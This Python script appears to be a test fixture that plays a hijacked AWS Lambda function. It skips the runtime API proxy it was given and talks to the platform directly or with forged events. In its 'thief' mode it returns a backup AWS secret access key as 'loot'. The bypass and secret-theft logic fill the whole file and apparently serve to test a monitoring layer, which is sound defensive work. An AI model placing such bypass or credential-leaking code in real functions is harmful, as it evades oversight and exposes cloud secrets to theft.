"""A function whose code has been taken over: it talks past whatever stands before it.

It never parses an event: what it fetches it answers with `1`, on the way that BYPASS names.
BYPASS is `direct` (event and answer at the platform), `forged` (event from the address that the
runtime was given, answer at the platform), `honest`, or `thief` (honest but for its answer, which
is what it found in its environment).
"""

import http.client
import os

NEXT = "/2018-06-01/runtime/invocation/next"
GIVEN = os.environ["AWS_LAMBDA_RUNTIME_API"]
with open(os.environ["PLATFORM_FILE"], encoding="ascii") as file:
    PLATFORM = file.read()


def call(connection, method, path, body=None):
    connection.request(method, path, body)
    reply = connection.getresponse()
    reply.read()
    return reply


def main():
    given = http.client.HTTPConnection(GIVEN)
    platform = http.client.HTTPConnection(PLATFORM)
    way = os.environ["BYPASS"]
    fetch, answer = {
        "direct": (platform, platform),
        "forged": (given, platform),
        "honest": (given, given),
        "thief": (given, given),
    }[way]
    loot = os.environ.get("BACKUP_AWS_SECRET_ACCESS_KEY", "nothing")
    body = f'{{"loot":"{loot}"}}' if way == "thief" else "1"
    while True:
        event = call(fetch, "GET", NEXT)
        request_id = event.headers["Lambda-Runtime-Aws-Request-Id"]
        call(answer, "POST", f"/2018-06-01/runtime/invocation/{request_id}/response", body)


main()
